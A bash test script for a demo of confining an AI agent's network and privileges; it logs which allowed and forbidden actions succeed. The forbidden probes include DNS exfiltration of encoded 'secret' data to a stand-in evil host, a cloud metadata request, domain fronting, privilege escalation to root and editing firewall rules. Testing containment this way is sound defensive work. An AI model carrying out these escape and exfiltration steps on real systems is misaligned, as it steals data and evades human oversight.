#!/bin/bash
# The "agent" of the demo: it tries what it may, and what it may not. For each it prints a line: what it may expect, what
# it tried, "worked" or "failed", the milliseconds, and what was said, with tabs between them.
#
# The demo runs it twice: without agent-init, where all of it has to work, and confined.

# try EXPECTED WHAT COMMAND…
try() {
	local expected=$1 what=$2 began out became
	shift 2
	began=$(date +%s%N)
	if out=$("$@" 2>&1); then became=worked; else became=failed; fi
	out=${out//[$'\n\t']/ }
	printf '%s\t%s\t%s\t%d\t%s\n' "$expected" "$what" "$became" $((($(date +%s%N) - began) / 1000000)) "$out"
}
may() { try allowed "$@"; }
mustnt() { try refused "$@"; }

fetch() { curl -sS -m 60 "$@"; }

# poke is a tool of the lab's. It says in JSON how an attempt went.
attempt() {
	local verdict
	verdict=$(poke "$@")
	sed -n 's/.*"err":"\([^"]*\)".*/\1/p' <<<"$verdict"
	[[ $verdict == *'"ok":true'* ]]
}

may 'asks the LLM' fetch --fail-with-body https://api.anthropic.com/v1/messages -H 'content-type: application/json' \
	-H 'anthropic-version: 2023-06-01' -H 'x-api-key: demo' \
	-d '{"model":"demo","max_tokens":9,"messages":[{"role":"user","content":"say hello"}]}'
may 'reads documentation, over IPv6' fetch -6 https://docs.ok.test/
mustnt 'a name that is not in the list' fetch https://evil.test/
mustnt 'data in a DNS query, to 8.8.8.8' attempt dns 8.8.8.8:53 c2VjcmV0.evil.test A
mustnt 'an address without a name' fetch -k https://1.1.1.1/
mustnt 'the same, over IPv6' fetch -k 'https://[2606:4700:4700::1111]/'
mustnt 'the cloud metadata service' fetch http://169.254.169.254/
mustnt 'another port of the LLM' attempt tcp -send hello 45.30.0.1:8443
mustnt 'another site on an allowed address' fetch --resolve 'shared.test:443:[2a0f:30::10]' https://shared.test/
mustnt 'a ping' attempt ping 9.9.9.9
mustnt 'becoming root' setpriv --reuid=0 true
mustnt 'changing the rules' attempt nft
echo 'the agent waits'
sleep infinity
